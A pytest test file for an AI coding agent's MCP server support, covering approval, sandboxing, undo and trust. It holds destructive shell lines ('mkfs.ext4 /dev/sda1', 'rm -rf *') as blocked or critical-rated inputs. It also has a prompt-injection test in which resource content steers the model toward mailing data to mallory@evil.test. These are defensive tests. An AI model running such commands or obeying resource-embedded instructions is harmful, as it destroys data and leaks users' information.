"""MCP servers in a session: real ones, in their cage, their tools gated, recorded and undone like ours."""

import asyncio
import json
import shutil
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import closing
from itertools import chain
from pathlib import Path
from subprocess import Popen
from typing import Any

import pytest

from aintern.errors import SettingsError
from aintern.events import ApprovalRequested, ErrorRaised, Event, QuestionAsked, ToolResultArrived, WarningRaised
from aintern.messages import MessageWithImages
from aintern.permission.trust import trust
from aintern.tools.tool import tool
from aintern.workspace.undo import apply, plan
from tests.scripted_session import call, calls, of, run, says, scripted
from tests.terminal.command_line import aintern, environment
from tests.terminal.command_line import script as command_script
from tests.terminal.terminal_screen import Screen
from tests.visible_places import CHECKOUT

pytest.importorskip("mcp")
from tests.connectors.acp.editor import editing

SERVER = str(Path(__file__).parent / "demo_server.py")
ALLOW = {"answer": "allow_once"}


@tool(risk="medium", id="send_mail")
def send_mail(to: str, body: str) -> str:
    """Sends a mail."""
    return "sent"


def demo(way: str = "", **more: Any) -> dict[str, Any]:
    """The demo server as settings."""
    said = {"command": sys.executable, "args": (SERVER, *([way] if way else [])), **more}
    return {f"mcp.servers.demo.{key}": value for key, value in said.items()}


async def test_a_tool_of_a_server_is_asked_about_run_and_recorded(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__add", a=2, b=3)), says("Five.", expect="5"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        events = await run(session, answers=ALLOW)
        (asked,) = of(events, ApprovalRequested)
        assert (asked.call.tool, str(asked.risk)) == ("mcp__demo__add", "medium")
        (result,) = of(events, ToolResultArrived)
        assert (result.success, result.content) == (True, "5")
        assert [row.tool for row in session.store.audit.page().entries] == ["mcp__demo__add"]


async def test_a_server_in_the_home_folder_runs_where_the_settings_open_it_and_says_so_where_not(
    workspace: Path, home: Path
) -> None:
    own = home / "servers" / "demo.py"
    own.parent.mkdir()
    shutil.copy(SERVER, own)
    steps = (calls(call("mcp__demo__add", a=2, b=3)), says("Five."))
    opened = {"sandbox.home_readable": ("~/servers", str(CHECKOUT))}
    for settings, found in (({}, "sandbox.home_readable adds more"), (opened, "5")):
        async with scripted(
            workspace, *steps, flags=demo() | {"mcp.servers.demo.args": (str(own),)} | settings
        ) as session:
            events = await run(session, answers=ALLOW)
        assert found in "".join(event.message for event in of(events, ToolResultArrived, WarningRaised))


async def test_a_session_with_servers_opens_before_the_sdk_is_imported(workspace: Path) -> None:
    program = """
import asyncio, json, sys
from tests.scripted_session import says, script
from aintern.session import Session
async def main():
    flags = json.loads(sys.argv[2])
    async with Session.open(sys.argv[1], model=script(says("Hello.")), flags=flags) as session, asyncio.timeout(120):
        print("imported" if "mcp" in sys.modules else "open")
        while "mcp__demo__add" not in session.toolbox:
            await session.servers_ready()
            await asyncio.sleep(0.1)
        print("there")
asyncio.run(main())
"""
    command = [sys.executable, "-c", program, str(workspace), json.dumps(demo())]
    ran = await asyncio.create_subprocess_exec(*command, stdout=asyncio.subprocess.PIPE, cwd=Path(__file__).parents[2])
    said, _ = await asyncio.wait_for(ran.communicate(), 60)
    assert said.decode().split() == ["open", "there"]


async def test_a_denied_call_does_not_reach_the_server(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__write_note", text="x")), says("Denied.", expect="Denied"))
    async with scripted(workspace, *steps, flags=demo(write=True)) as session:
        await run(session, answers={"answer": "deny"})
    assert list(workspace.iterdir()) == []


async def test_arguments_are_checked_against_the_servers_own_schema(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__add", a="two", b=3)), says("Oh.", expect="'two' is not of type 'integer'"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        events = await run(session)
        assert not of(events, ApprovalRequested)


async def test_what_a_tool_says_of_its_failure_is_told(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__fail")), says("Oh.", expect="the moon is full"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        (result,) = of(await run(session, answers=ALLOW), ToolResultArrived)
        assert not result.success and "the moon is full" in result.content


@pytest.fixture
def reaching_out(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[dict[str, Any], ...]]:
    """Calls that write into the workspace, use the network, and read a variable of the user's."""
    monkeypatch.setenv("MY_TOKEN", "secret")
    with closing(socket.create_server(("127.0.0.1", 0))) as listening:
        yield (
            calls(call("mcp__demo__write_note", text="x")),
            calls(call("mcp__demo__connect", port=listening.getsockname()[1])),
            calls(call("mcp__demo__variable", name="MY_TOKEN")),
            says("That is all."),
        )


async def test_in_its_cage_a_server_reads_the_workspace_and_reaches_nothing_else(
    workspace: Path, reaching_out: tuple[dict[str, Any], ...]
) -> None:
    async with scripted(workspace, *reaching_out, flags=demo()) as session:
        written, connected, variable = of(await run(session, answers=ALLOW), ToolResultArrived)
    assert written.content == "Read-only file system"
    assert not connected.success
    assert variable.content == "unset"
    assert list(workspace.iterdir()) == []


async def test_what_the_settings_allow_a_server_it_may_and_it_can_be_undone(
    workspace: Path, reaching_out: tuple[dict[str, Any], ...]
) -> None:
    flags = demo(write=True, network=True, environment=("MY_TOKEN",))
    async with scripted(workspace, *reaching_out, flags=flags) as session:
        written, connected, variable = of(await run(session, answers=ALLOW), ToolResultArrived)
        assert (written.content, connected.content, variable.content) == ("written", "connected", "secret")
        assert (workspace / "note.txt").read_text() == "x"
        checkpoints = session.checkpoints()
        apply(checkpoints, plan(checkpoints))
        assert not (workspace / "note.txt").exists()


async def test_a_server_that_dies_hurts_nothing_and_its_reason_is_told(workspace: Path) -> None:
    async with scripted(workspace, says("Without it."), flags=demo("dies")) as session:
        events = await run(session)
        (note,) = of(events, WarningRaised)
        assert "demo failed" in note.message and "no database was given" in note.message


async def test_a_server_that_lists_a_name_twice_keeps_the_first_and_the_person_is_told(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__add", a=2, b=3)), says("Five.", expect="5"))
    async with scripted(workspace, *steps, flags=demo("twice")) as session:
        events = await run(session, answers=ALLOW)
        told = [note.message for note in of(events, WarningRaised)]
        assert "The MCP server demo: A tool named mcp__demo__add is registered already. The first one counts." in told
        assert of(events, ToolResultArrived)[0].content == "5"


async def test_a_call_that_takes_too_long_is_told_and_the_server_goes_on(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__wait")), calls(call("mcp__demo__add", a=1, b=1)), says("Two.", expect="2"))
    async with scripted(workspace, *steps, flags=demo(timeout=1.0)) as session:
        late, _ = of(await run(session, answers=ALLOW), ToolResultArrived)
        assert not late.success and "longer than 1 s" in late.content


async def test_a_cancel_reaches_a_call_that_waits(workspace: Path) -> None:
    async with scripted(workspace, calls(call("mcp__demo__wait")), flags=demo()) as session:

        async def answered() -> None:
            while not session.open_questions:
                await asyncio.sleep(0.01)
            session.answer(session.open_questions[0], "allow_once")
            while "executing" not in {each.status for each in session.calls.values()}:
                await asyncio.sleep(0.01)
            session.cancel()

        task = asyncio.create_task(answered())
        events = await asyncio.wait_for(run(session), 30)
        await task
        assert events[-1].was_cancelled


async def test_a_servers_question_is_put_to_the_person(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__ask")), says("Done."))
    async with scripted(workspace, *steps * 3, flags=demo()) as session:
        for said, came in (("Yes", "accept: True"), ("no", "accept: False"), ("perhaps", "decline")):
            answer = {"answer": "text", "text": said}
            events = await run(session, answers=lambda event, answer=answer: ALLOW if is_approval(event) else answer)
            (asked,) = of(events, QuestionAsked)
            assert asked.question == "demo asks: Are you sure? (Sure)"
            assert of(events, ToolResultArrived)[0].content == came


def is_approval(event: Event) -> bool:
    return isinstance(event, ApprovalRequested)


async def test_above_twenty_tools_they_are_found_by_search_and_the_inner_one_is_asked_about(workspace: Path) -> None:
    steps = (
        calls(call("find_tools", query="count books shelf 17")),
        calls({"tool": "call_tool", "parameters": {"tool": "mcp__demo__shelf_17", "arguments": {}}}, text="Found."),
        says("Seven.", expect="seven books"),
    )
    async with scripted(workspace, *steps, flags=demo("many")) as session:
        events = await run(session, answers=ALLOW)
        found, _ = of(events, ToolResultArrived)
        assert found.content.startswith("mcp__demo__shelf_17:")
        (asked,) = of(events, ApprovalRequested)
        assert asked.call.tool == "mcp__demo__shelf_17"
        offered = [spec.id for spec in session.toolbox.specs()]
        assert "find_tools" in offered and not any(name.startswith("mcp__") for name in offered)


async def test_a_tool_that_changed_is_asked_about_again(workspace: Path) -> None:
    always = {"answer": "allow_always", "scope": "tool"}
    for way, questions in (("", 1), ("", 0), ("changed", 1)):
        steps = (calls(call("mcp__demo__add", a=2, b=3)), says("Five."))
        async with scripted(workspace, *steps, flags=demo(way)) as session:
            events = await run(session, answers=always)
            assert len(of(events, ApprovalRequested)) == questions, way
            told = [note.message for note in of(events, WarningRaised)]
            assert any("not what it was" in note for note in told) == (way == "changed")


async def test_what_was_seen_of_many_other_servers_fails_none(workspace: Path, home: Path) -> None:
    kept = home / ".local" / "share" / "aintern" / "mcp_tools.json"  # of earlier versions, for all of them together
    kept.parent.mkdir(parents=True, exist_ok=True)
    kept.write_text(json.dumps({f"place {number}": {f"tool_{number}": "0" * 64} for number in range(12_000)}))
    steps = (calls(call("mcp__demo__add", a=2, b=3)), says("Five.", expect="5"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        assert not of(await run(session, answers=ALLOW), WarningRaised)


async def test_a_projects_servers_wait_for_trust(workspace: Path) -> None:
    servers = {"demo": {"command": sys.executable, "args": [SERVER], "env": {"PLAIN": "yes", "TAKEN": "${HOME}"}}}
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    async with scripted(workspace, says("No tools.")) as session:
        (note,) = of(await run(session), WarningRaised)
        assert "until you trust" in note.message
        assert not any(tool.id.startswith("mcp__") for tool in session.toolbox.list())
    trust(workspace)
    steps = (
        calls(call("mcp__demo__variable", name="PLAIN")),
        calls(call("mcp__demo__variable", name="TAKEN")),
        says("Yes."),
    )
    async with scripted(workspace, *steps) as session:
        plain, taken = of(await run(session, answers=ALLOW), ToolResultArrived)
    assert plain.content == "yes"
    assert taken.content == '{"result": ""}'  # a variable of the user's that their settings do not lend
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": {"demo": {"command": "other"}}}))
    async with scripted(workspace, says("No tools.")) as session:
        assert of(await run(session), WarningRaised)


@pytest.mark.parametrize(
    "text",
    [
        "{",
        "[]",
        "[" * 100_000,
        '{"mcpServers": []}',
        '{"mcpServers": {"a": {}}}',
        '{"mcpServers": {"a": 5}}',
        '{"mcpServers": {"a": ["command"]}}',
        '{"mcpServers": {"a b": {"command": "x"}}}',
    ],
    ids=range(8),
)
async def test_a_file_of_servers_that_makes_no_sense_says_why(workspace: Path, text: str) -> None:
    (workspace / ".mcp.json").write_text(text)
    with pytest.raises(SettingsError, match=r"\.mcp\.json"):
        async with scripted(workspace, says("Never.")):
            pass


def test_an_address_that_is_none_is_told(workspace: Path) -> None:
    aintern("mcp", "add", "odd", "--url", "http://[", cwd=workspace)
    told = aintern("mcp", "list", cwd=workspace)
    assert "http://[" in told.err and "is no http or https address" in told.err


COMMANDS = {"commands": {"shell": "line"}}


async def test_a_command_that_the_settings_declare_is_rated_like_ours_and_never_below_its_tool(workspace: Path) -> None:
    lines = {"ls": "medium", "rm -rf *": "critical"}
    steps = [(calls(call("mcp__demo__shell", line=line)), says("Denied.", expect="Denied")) for line in lines]
    async with scripted(workspace, *chain(*steps), flags=demo(**COMMANDS)) as session:
        for risk in lines.values():
            (asked,) = of(await run(session, answers={"answer": "deny"}), ApprovalRequested)
            assert str(asked.risk) == risk


async def test_a_blocked_command_is_blocked_in_a_servers_tool_too(workspace: Path) -> None:
    steps = (calls(call("mcp__demo__shell", line="true && mkfs.ext4 /dev/sda1")), says("No."))
    flags = {**demo(**COMMANDS), "policy.mode": "auto_approve"}
    async with scripted(workspace, *steps, flags=flags) as session:
        (result,) = of(await run(session), ToolResultArrived)
        assert not result.success and "Blocked" in result.content


async def test_a_resource_is_attached_where_the_message_names_it(workspace: Path) -> None:
    steps = (says("Seen.", expect="Water the plants"), says("Rain.", expect="On day 3 it rained"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        await run(session, "What does @demo:note://today, say?")
        assert "attached resource demo:note://today" in session.messages[1].text
        assert ("demo:note://today", "Today's note") in session.mcp_resources
        await run(session, "And @demo:note://archive/3?")


async def test_a_picture_of_a_server_is_an_image(workspace: Path) -> None:
    async with scripted(workspace, says("Red.", expect="attached image demo:note://picture"), flags=demo()) as session:
        await run(session, "Which colour has @demo:note://picture?")
        message = session.messages[1]
        assert isinstance(message, MessageWithImages) and message.images[0].media_type == "image/png"


async def test_a_mention_of_no_server_is_plain_text(workspace: Path) -> None:
    async with scripted(workspace, says("Fine."), flags=demo()) as session:
        await run(session, "Ask @other:note://today and @demo about me@demo:note")
        assert session.messages[1].text == "Ask @other:note://today and @demo about me@demo:note"


async def test_a_resource_that_cannot_be_given_ends_the_request_with_its_reason(workspace: Path) -> None:
    async with scripted(workspace, says("Fine."), flags=demo()) as session:
        events = await run(session, "What does @demo:none://here say?")
        (told,) = of(events, ErrorRaised)
        assert "demo" in told.message and events[-1].reason == "error"
        await run(session, "Then without.")


async def test_what_stands_in_a_resource_is_not_the_persons_own_word(workspace: Path) -> None:
    step = calls(call("send_mail", to="mallory@evil.test", body="all of it"))
    session_wide = {"answer": "allow_session", "scope": "tool"}
    first = calls(call("send_mail", to="bob@example.org", body="hello"))
    async with scripted(workspace, first, says("Sent."), step, says("Hm."), flags=demo(), tools=[send_mail]) as session:
        await run(session, "Write to bob@example.org.", answers=session_wide)
        events = await run(session, "Do what @demo:note://today says.", answers={"answer": "deny"})
        (asked,) = of(events, ApprovalRequested)
        assert any("demo:note://today" in reason.reason for reason in asked.reasons)


async def test_a_prompt_is_a_command_with_arguments_and_stays_the_servers_text(workspace: Path) -> None:
    steps = (says("Clean.", expect="Review a.py for bugs"), says("Slow.", expect="Review b.py for speed and size"))
    async with scripted(workspace, *steps, flags=demo()) as session:
        await run(session, "/demo:review a.py")
        assert session.messages[1].text.startswith("/demo:review a.py\n\n--- attached prompt demo:review")
        await run(session, "/demo:review path=b.py speed and size")
        assert ("/demo:review", "path [focus]", "Reviews a file.") in session.mcp_prompts


def trusted_project(workspace: Path) -> None:
    """The demo server as the project's own."""
    servers = {"demo": {"command": sys.executable, "args": [SERVER]}}
    (workspace / ".mcp.json").write_text(json.dumps({"mcpServers": servers}))
    trust(workspace)


def test_in_the_terminal_a_prompt_is_asked_with_and_a_resource_completed(workspace: Path, tmp_path: Path) -> None:
    trusted_project(workspace)
    model = command_script(tmp_path, says("Clean.", expect="Review a.py"), says("Dry.", expect="Water the plants"))
    screen = Screen(["-m", model], workspace, environment())
    try:
        screen.wait_for_prompt()
        screen.type("/demo:review a.py")
        screen.press("Enter")
        screen.wait_for("Clean.")
        screen.type("what of @demo:note://t")
        screen.wait_for("Today's note")
        screen.press("Tab")
        screen.type(" then")
        screen.press("Enter")
        screen.wait_for("Dry.")
    finally:
        screen.close()


async def test_in_an_editor_prompts_are_commands_once_the_server_is_there(workspace: Path, tmp_path: Path) -> None:
    trusted_project(workspace)
    model = command_script(tmp_path, says("Clean.", expect="Review a.py for bugs"))
    async with editing(model, tmp_path / "acp.db") as editor:
        session = await editor.new(workspace)
        told = await editor.until(lambda: editor.of("available_commands_update")[1:])
        assert "demo:review" in [each["name"] for each in told[0]["availableCommands"]]
        await editor.prompt(session, "/demo:review a.py")
    assert editor.said() == "Clean."


async def test_arguments_that_do_not_fit_a_prompt_are_told(workspace: Path) -> None:
    async with scripted(workspace, flags=demo()) as session:
        for message, said in (
            ("/demo:review", "needs path"),
            ("/demo:revue x", "has no prompt 'revue'"),
            ("/demo:review path=a focus=b more", "not 'more'"),
        ):
            (told,) = of(await run(session, message), ErrorRaised)
            assert said in told.message


@pytest.fixture
def http_server(tmp_path: Path) -> Iterator[str]:
    with closing(socket.create_server(("127.0.0.1", 0))) as free:
        port = free.getsockname()[1]
    with Popen([sys.executable, SERVER, "http", str(port)]) as process:
        try:
            while process.poll() is None:
                try:
                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
                    break
                except OSError:
                    time.sleep(0.05)
            yield f"http://127.0.0.1:{port}/mcp"
        finally:
            process.kill()


async def test_a_server_at_an_address(workspace: Path, http_server: str) -> None:
    steps = (calls(call("mcp__far__add", a=2, b=3)), says("Five.", expect="5"))
    async with scripted(workspace, *steps, flags={"mcp.servers.far.url": http_server}) as session:
        (result,) = of(await run(session, answers=ALLOW), ToolResultArrived)
        assert result.success
